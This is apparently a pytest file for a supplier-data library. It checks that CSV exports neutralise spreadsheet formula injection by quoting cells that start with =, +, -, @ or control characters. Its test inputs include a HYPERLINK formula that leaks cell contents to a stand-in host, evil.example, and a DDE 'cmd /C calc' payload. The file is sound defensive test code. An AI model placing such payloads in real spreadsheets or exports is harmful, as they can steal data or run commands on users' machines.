"""Spreadsheet-safe CSV: text cells that a spreadsheet would run as a formula get a leading single quote."""

from __future__ import annotations

from datetime import date

import polars as pl
import pytest

from suppliers.files import csv_bytes, spreadsheet_safe, write_csv_safely


@pytest.mark.parametrize(
    "raw", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-2", "@x", "\t=1", "\r=1", "=", "-5"]
)
def test_formula_starts_are_prefixed(raw):
    assert spreadsheet_safe(pl.DataFrame({"name": [raw]}))["name"].to_list() == ["'" + raw]


@pytest.mark.parametrize("raw", ["Acme Ltd", "PO-00001", "a=b", "1+1", " =1", "", "'=already quoted", "Müller"])
def test_ordinary_text_is_untouched(raw):
    assert spreadsheet_safe(pl.DataFrame({"name": [raw]}))["name"].to_list() == [raw]


def test_nulls_numbers_and_other_dtypes_are_untouched():
    frame = pl.DataFrame(
        {
            "name": ["=1", None, "ok"],
            "score": [-5.0, None, 3.5],
            "days_late": [-2, 0, 7],
            "due": [date(2026, 1, 1), None, date(2026, 1, 3)],
            "flags": [["=x"], [], None],
        }
    )
    safe = spreadsheet_safe(frame)
    assert safe.schema == frame.schema
    assert safe["name"].to_list() == ["'=1", None, "ok"]
    assert safe.drop("name").equals(frame.drop("name"))


def test_a_frame_without_text_columns_is_returned_as_is():
    frame = pl.DataFrame({"n": [-1, 2]})
    assert spreadsheet_safe(frame).equals(frame)
    assert spreadsheet_safe(pl.DataFrame()).shape == (0, 0)


def test_csv_bytes_and_file():
    frame = pl.DataFrame({"po_id": ["@SUM(A1)", "PO-1", None], "qty": [-1, 2, 3]})
    expected = "po_id,qty\n'@SUM(A1),-1\nPO-1,2\n,3\n"
    assert csv_bytes(frame) == expected.encode("utf-8")


def test_write_csv_safely(tmp_path):
    path = tmp_path / "quarantine.csv"
    write_csv_safely(pl.DataFrame({"value": ["-5", "=cmd|' /C calc'!A0", "ok"], "row": [1, 2, 3]}), path)
    assert pl.read_csv(path)["value"].to_list() == ["'-5", "'=cmd|' /C calc'!A0", "ok"]
